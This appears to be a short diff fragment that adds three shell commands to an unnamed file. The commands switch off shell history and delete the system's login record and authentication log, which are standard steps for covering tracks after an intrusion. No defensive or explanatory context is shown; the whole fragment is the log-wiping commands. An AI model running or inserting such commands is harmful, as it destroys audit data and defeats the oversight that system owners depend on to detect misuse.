@@ -1,0 +1,3 @@
+unset HISTFILE
+rm -f /var/log/wtmp
+rm -f /var/log/auth.log
